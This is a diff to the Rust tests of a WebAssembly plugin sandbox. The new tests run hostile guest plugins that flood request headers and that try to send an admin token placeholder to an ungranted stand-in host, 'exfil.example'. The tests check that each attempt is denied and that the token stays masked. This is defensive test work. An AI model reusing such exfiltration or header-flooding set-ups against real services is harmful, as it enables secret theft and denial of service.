@@ -175,8 +175,8 @@ async fn wrong_world() {
     assert_eq!(
         error.to_string(),
         format!(
-            "plugin `{}` does not export rekey:provider/provider@0.1.0; it exports: greet. \
-             Build it against the `plugin` world of rekey:provider@0.1.0 (rekey-sdk does this)",
+            "plugin `{}` does not export rekey:provider/provider@0.2.0; it exports: greet. \
+             Build it against the `plugin` world of that contract (rekey-sdk does this)",
             guests::WRONG_WORLD
         )
     );
@@ -275,4 +275,71 @@ async fn redirect_follower() {
     assert!(outcome.transcript[1].error.as_deref().is_some_and(|e| e.starts_with("denied:")));
     assert_eq!(outcome.transcript[1].path, "/collect", "no query string in the transcript");
     still_serves(&runtime).await;
+}
+
+#[tokio::test]
+async fn oversized_headers() {
+    let (runtime, _cache) = support::runtime(Limits::default());
+    let server = KeyServer::start();
+    let mut options = fetching(&format!("{}/me", server.base_url()), &[&server.addr.to_string()]);
+    options.config.insert("header-bytes".into(), "100000".into());
+    let error = attack(&runtime, guests::OVERSIZED_HEADERS, options.clone()).await;
+    let expected = Denial::HeaderLimit { limit: 64 << 10 };
+    assert!(matches!(&error, PluginError::Denied { denial, .. } if *denial == expected), "{error:?}");
+    assert_eq!(
+        error.to_string(),
+        "plugin `oversized-headers` was denied network access: the request headers exceeded 65536 bytes"
+    );
+
+    // Past 128 KiB, wasmtime's own cap on a header map stops the plugin
+    // while it is still building the request.
+    options.config.insert("header-bytes".into(), "1000000".into());
+    let error = attack(&runtime, guests::OVERSIZED_HEADERS, options).await;
+    assert!(
+        matches!(&error, PluginError::Trap { message, .. } if message.ends_with("total size of fields exceeds limit"))
+    );
+
+    // A server answering with a 1 MiB header: the client gives up on the
+    // response head instead of buffering it, and the plugin gets an error.
+    let addr = support::big_header_server(1 << 20);
+    let options = fetching(&format!("http://{addr}/keys"), &[&addr.to_string()]);
+    let plugin = runtime.load(Path::new(guests::OVERSIZED_HEADERS)).await.unwrap();
+    let outcome = plugin.generate(&options).await;
+    let error = outcome.result.expect_err("a 1 MiB response head is refused");
+    assert!(matches!(error, PluginError::Provider { .. }), "{error:?}");
+    assert!(outcome.transcript[0].error.is_some(), "{:?}", outcome.transcript);
+    still_serves(&runtime).await;
+}
+
+#[tokio::test]
+async fn placeholder_thief() {
+    let (runtime, _cache) = support::runtime(Limits::default());
+    let server = KeyServer::start();
+    let token = KeyServer::ADMIN_TOKEN;
+    let secrets = config(&[("token", token.to_string())]);
+    let plugin = runtime.load(Path::new(guests::PLACEHOLDER_THIEF)).await.unwrap();
+
+    // Sent to the granted server, the placeholder carries the real token
+    // (the echo answers 200 only to it), and the echo comes back masked.
+    let honest = CallOptions {
+        config: config(&[("url", format!("{}/echo", server.base_url())), ("exfil", String::new())]),
+        admin_secrets: secrets.clone(),
+        grants: granting(&[&server.addr.to_string()]),
+        ..CallOptions::default()
+    };
+    let seen = plugin.generate(&honest).await.result.expect("the echo call succeeds").secret;
+    assert_eq!(
+        seen, "given {{secret:token}}; the server answered 200 with: you sent {{secret:token}}",
+        "the plugin never holds the token"
+    );
+
+    // Sent to a host it declares but the operator did not grant, the
+    // request is refused before anything is filled in or sent.
+    let thief = CallOptions {
+        config: config(&[("url", format!("{}/echo", server.base_url())), ("exfil", "http://exfil.example/c".into())]),
+        ..honest
+    };
+    let error = attack(&runtime, guests::PLACEHOLDER_THIEF, thief).await;
+    assert!(matches!(&error, PluginError::Denied { denial: Denial::NotGranted { .. }, .. }), "{error:?}");
+    assert!(!error.to_string().contains(token), "{error}");
 }
